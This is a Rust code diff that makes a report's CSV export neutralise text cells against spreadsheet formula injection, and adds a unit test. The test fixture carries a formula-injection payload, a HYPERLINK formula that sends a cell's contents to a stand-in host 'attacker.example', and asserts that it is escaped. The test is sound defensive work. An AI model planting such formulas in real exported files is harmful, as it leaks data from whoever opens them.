@@ -2,15 +2,18 @@
 //! table. Suppressed cells are empty.
 
 use crate::report::{Report, Table};
+use kallos_domain::spreadsheet::text;
 
 /// One table as CSV: `key,label,<columns…>`.
 pub fn table_csv(table: &Table) -> String {
     let mut writer = csv::Writer::from_writer(Vec::new());
+    // Keys, labels and column names are text, neutralised against formulas
+    // (`kallos_domain::spreadsheet`); counts are numbers.
     let mut header = vec!["key".to_owned(), "label".to_owned()];
-    header.extend(table.columns.iter().cloned());
+    header.extend(table.columns.iter().map(|c| text(c).into_owned()));
     let _ = writer.write_record(&header);
     for row in &table.rows {
-        let mut record = vec![row.key.clone(), row.label.clone()];
+        let mut record = vec![text(&row.key).into_owned(), text(&row.label).into_owned()];
         record.extend(
             row.values
                 .iter()
@@ -75,4 +78,32 @@ pub fn report_xlsx(report: &Report) -> Result<Vec<u8>, String> {
         }
     }
     workbook.save_to_buffer().map_err(|e| e.to_string())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::report::TableRow;
+
+    /// Labels and keys are text a spreadsheet must not run; counts, negative
+    /// or not, stay numbers.
+    #[test]
+    fn text_cells_are_never_formulas_and_numbers_stay_numbers() {
+        let table = Table {
+            id: "procedures".to_owned(),
+            columns: vec!["procedures".to_owned(), "@change".to_owned()],
+            rows: vec![TableRow {
+                key: "procedure:=1+1".to_owned(),
+                label: "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"click\")".to_owned(),
+                level: 1,
+                values: vec![Some(12), Some(-3)],
+            }],
+            sums: Vec::new(),
+        };
+        assert_eq!(
+            table_csv(&table),
+            "key,label,procedures,'@change\n\
+             procedure:=1+1,\"'=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A1,\"\"click\"\")\",12,-3\n"
+        );
+    }
 }
